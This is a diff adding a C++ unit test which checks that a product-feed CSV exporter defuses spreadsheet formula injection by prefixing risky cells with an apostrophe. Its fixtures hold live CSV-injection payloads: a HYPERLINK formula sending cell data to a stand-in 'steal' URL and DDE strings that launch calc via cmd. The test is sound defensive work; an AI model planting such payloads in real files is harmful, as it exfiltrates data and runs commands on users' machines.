@@ -15,6 +15,7 @@
 
 #include "../store/temp_dir.h"
 #include "common/csv.h"
+#include "common/csv_writer.h"
 #include "common/gtin.h"
 #include "common/text.h"
 #include "feed_validation.h"
@@ -403,6 +404,65 @@ TEST_F(HostileFeedsTest, MetaUsesSpacesAndItsOwnDateFormat) {
             R"(\d{4}-\d{2}-\d{2}T\d{2}:\d{2}[+-]\d{2}:\d{2}/\d{4}-\d{2}-\d{2}T\d{2}:\d{2}[+-]\d{2}:\d{2})")));
     EXPECT_NE(First(item, "g:description"), First(item, "g:title"));
   }
+}
+
+// Titles, brands and descriptions written to trigger a spreadsheet formula come out of the
+// offers CSV as text: each free-text cell that would start with = + - @, a tab or a CR gets
+// a leading apostrophe; ids, prices, numbers and dates are untouched.
+TEST_F(HostileFeedsTest, OffersCsvNeutralisesCellsThatStartLikeAFormula) {
+  Product formula;
+  formula.id = "P-HOSTILE";
+  formula.title = "=HYPERLINK(\"http://x.example/steal?\"&A1,\"Promo\")";
+  formula.brand = "@SUM(1+1)*cmd|' /C calc'!A0";
+  formula.description = "+cmd|' /C calc'!A0";
+  formula.image_url = "https://img.example/p.jpg";
+  Product tab = formula;
+  tab.id = "P-NOIMAGE";
+  tab.title = "\t=1+1";
+  tab.brand = "-2+3";
+  Product cr = formula;
+  cr.id = "P-INSTORE";
+  cr.title = "\r\n=1+1";
+  cr.brand = "+33";
+  ASSERT_TRUE(db_.PutProducts(std::vector<Product>{formula, tab, cr}, kNow).ok());
+
+  const Written w = Write(FeedFormat::kOffersCsv, sources_, dir_.path(), kNow);
+  ExpectValid(FeedFormat::kOffersCsv, w);
+  std::ifstream file(w.path, std::ios::binary);
+  CsvReader reader(file);
+  CsvRecord record;
+  ASSERT_TRUE(reader.Next(&record));
+  std::map<std::string, size_t> column;
+  for (size_t i = 0; i < record.fields.size(); ++i) column[std::string(record.fields[i])] = i;
+  const std::set<std::string> text_columns = {"title",    "brand", "category", "unit_pricing_base",
+                                              "mechanic", "badge", "headline", "legal"};
+  std::map<std::string, std::string> titles, brands;
+  int rows = 0;
+  while (reader.Next(&record)) {
+    ASSERT_TRUE(record.ok());
+    ++rows;
+    for (const auto& [name, i] : column) {
+      const std::string cell(record.fields[i]);
+      if (text_columns.count(name)) {
+        EXPECT_FALSE(CsvWriter::StartsLikeFormula(cell)) << name << ": " << cell;
+      }
+    }
+    const std::string product(record.fields[column.at("product_id")]);
+    titles[product] = record.fields[column.at("title")];
+    brands[product] = record.fields[column.at("brand")];
+    // The badge "-30%" is text; prices and dates stay as they are.
+    EXPECT_EQ(record.fields[column.at("badge")], "'-30%");
+    EXPECT_EQ(record.fields[column.at("regular_price")], "3.49");
+    EXPECT_EQ(record.fields[column.at("discount_percent")], "30");
+    EXPECT_THAT(record.fields[column.at("valid_from")], ::testing::StartsWith("2026-11-2"));
+  }
+  EXPECT_EQ(rows, 6);
+  EXPECT_EQ(titles["P-HOSTILE"], "'" + formula.title);
+  EXPECT_EQ(brands["P-HOSTILE"], "'" + formula.brand);
+  EXPECT_EQ(titles["P-NOIMAGE"], "'=1+1");  // the tab is folded away, the formula still caught
+  EXPECT_EQ(brands["P-NOIMAGE"], "'-2+3");
+  EXPECT_EQ(titles["P-INSTORE"], "'=1+1");
+  EXPECT_EQ(brands["P-INSTORE"], "'+33");
 }
 
 TEST_F(HostileFeedsTest, UnknownStoreOrCampaignIsNotFound) {
